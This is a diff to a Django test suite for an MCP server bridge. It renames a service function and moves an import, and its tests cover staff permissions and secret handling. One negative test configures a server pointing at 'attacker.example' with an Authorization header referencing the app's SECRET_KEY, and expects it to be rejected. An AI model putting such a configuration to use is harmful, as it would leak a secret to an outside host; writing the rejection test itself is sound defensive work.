@@ -21,7 +21,7 @@ pytestmark = pytest.mark.django_db
 def stdio_server():
     from mcp_bridge import services
 
-    return services.add_server(
+    return services.server_add(
         name="Files", transport="stdio", command="node", args=["server.js"],
         env={"API_TOKEN": "env-s3cret"},
     )  # fmt: skip
@@ -57,7 +57,7 @@ def _change_form(server, **fields) -> dict:
 def test_staff_may_disable_a_server_but_not_change_its_command_or_see_its_secrets(
     stdio_server,
 ):
-    from bindings.models import AuditEvent
+    from audit.models import AuditEvent
     from mcp_bridge.models import McpServer
 
     user, client = _staff("sam", "change_mcpserver", "view_mcpserver", "add_mcpserver")
@@ -119,7 +119,7 @@ def test_env_references_only_resolve_the_allow_listed_prefix(stdio_server, monke
     assert page.status_code == 200 and "only variables named ATRIUM_MCP_*" in page.content.decode()
 
     with pytest.raises(services.ServerConfigError):
-        services.add_server(
+        services.server_add(
             name="Remote", transport="streamable_http", url="https://attacker.example/mcp",
             headers={"Authorization": "${SECRET_KEY}"},
         )  # fmt: skip
